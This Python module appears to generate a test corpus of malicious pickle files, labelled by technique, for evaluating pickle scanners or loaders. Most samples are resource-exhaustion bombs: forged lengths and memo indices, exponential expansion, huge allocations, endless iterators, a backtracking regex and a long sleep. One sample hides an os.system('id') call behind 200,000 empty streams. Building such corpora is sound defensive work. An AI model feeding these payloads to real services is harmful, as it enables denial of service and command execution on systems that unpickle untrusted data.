"""Pickles that exhaust whoever reads them: claimed lengths, memo indices, expansions, depth, endless streams.

None of them fires: what they do to a loader is eat its memory or time.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import struct
from collections.abc import Callable

from .assembler import (
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    MARK,
    NONE,
    POP,
    STOP,
    TUPLE2,
    Op,
    call,
    frame,
    get,
    line,
    new,
    pickle,
    proto,
    put,
    stack_global,
    text,
)
from .sample import Sample, write_bytes

SG = stack_global
_HUGE = struct.pack("<Q", 2**60)


def _doubling(levels: int) -> Op:
    """Each level is a pair of the level before: 2**levels leaves in a few bytes."""
    return Op(text("lol") + b"".join(DUP + TUPLE2 for _ in range(levels)))


def _quadratic() -> Op:
    """One long string, referenced ten thousand times and joined."""
    parts = b"".join(get(0) for _ in range(10_000))
    return call(SG("builtins", "str.join"), "", Op(text("A" * 60_000) + put(0) + POP + MARK + parts + Op(b"l")))


_TABLE: list[tuple[str, str, Callable[[], bytes]]] = [
    ("claim_binbytes8.pkl", "bomb/binbytes8-length", lambda: pickle(Op(b"\x8e" + _HUGE + b"x"))),
    ("claim_binunicode8.pkl", "bomb/binunicode8-length", lambda: pickle(Op(b"\x8d" + _HUGE + b"x"))),
    ("claim_bytearray8.pkl", "bomb/bytearray8-length", lambda: pickle(Op(b"\x96" + struct.pack("<Q", 2**40) + b"x"), 5)),
    ("claim_binbytes.pkl", "bomb/binbytes-length", lambda: pickle(Op(b"B" + struct.pack("<I", 2**32 - 1) + b"x"))),
    ("claim_long4.pkl", "bomb/long4-length", lambda: pickle(Op(b"\x8b" + struct.pack("<i", 2**31 - 1) + b"x"))),
    ("claim_long4_negative.pkl", "bomb/long4-negative", lambda: pickle(Op(b"\x8b" + struct.pack("<i", -1)))),
    ("claim_frame.pkl", "bomb/frame-length", lambda: proto(4) + frame(2**62) + NONE + STOP),
    ("memo_index.pkl", "bomb/memo-index", lambda: pickle(NONE + Op(b"r" + struct.pack("<I", 2**31 - 2)))),
    ("memo_index_text.pkl", "bomb/memo-index-text", lambda: NONE + line(b"p", str(2**40)) + STOP),
    ("tuple_doubling.pkl", "bomb/expansion-tuples", lambda: pickle(_doubling(100))),
    ("tuple_doubling_hashed.pkl", "bomb/expansion-hashed", lambda: pickle(EMPTY_DICT + _doubling(40) + NONE + Op(b"s"))),
    ("list_doubling.pkl", "bomb/expansion-lists", lambda: pickle(EMPTY_LIST + put(0) + Op(b"".join(EMPTY_LIST + MARK + get(level) + get(level) + Op(b"e") + put(level + 1) for level in range(60))))),
    ("join_quadratic.pkl", "bomb/quadratic-join", lambda: pickle(_quadratic())),
    ("bytearray_size.pkl", "bomb/allocation-bytearray", lambda: pickle(call(SG("builtins", "bytearray"), 2**45))),
    ("bytes_size_newobj.pkl", "bomb/allocation-bytes", lambda: pickle(new(SG("builtins", "bytes"), 2**45))),
    ("numpy_size.pkl", "bomb/allocation-numpy", lambda: pickle(call(SG("numpy", "zeros"), (2**20, 2**20, 2**8)))),
    ("numpy_reconstruct_size.pkl", "bomb/allocation-reconstruct", lambda: pickle(call(SG("numpy._core.multiarray", "_reconstruct"), SG("numpy", "ndarray"), (2**40, 4), b"f8"))),
    ("range_list.pkl", "bomb/allocation-range", lambda: pickle(call(SG("builtins", "list"), call(SG("builtins", "range"), 2**50)))),
    ("power.pkl", "bomb/computation-power", lambda: pickle(call(SG("operator", "pow"), 10, 10**9))),
    ("shift.pkl", "bomb/computation-shift", lambda: pickle(call(SG("operator", "lshift"), 1, 2**40))),
    ("repeat_endless.pkl", "bomb/endless-iterator", lambda: pickle(call(SG("collections", "deque"), call(SG("itertools", "count"), 0), 1))),
    ("product_endless.pkl", "bomb/product", lambda: pickle(call(SG("builtins", "set"), call(SG("itertools", "product"), call(SG("builtins", "range"), 10**6), call(SG("builtins", "range"), 10**6))))),
    ("regular_expression.pkl", "bomb/regular-expression", lambda: pickle(call(SG("re", "match"), "(a+)+$", "a" * 64 + "b"))),
    ("sleep.pkl", "bomb/sleep", lambda: pickle(call(SG("time", "sleep"), 10**8))),
    ("many_streams.pkl", "bomb/many-streams", lambda: b"N." * 200_000 + b"cos\nsystem\n(Vid\ntR."),
]  # fmt: skip


def _sample(name: str, technique: str, content: Callable[[], bytes]) -> Sample:
    unique = f"bomb_{name}"
    return Sample(unique, technique, True, False, write_bytes(unique, lambda: bytes(content())), "")


SAMPLES = tuple(_sample(*row) for row in _TABLE)
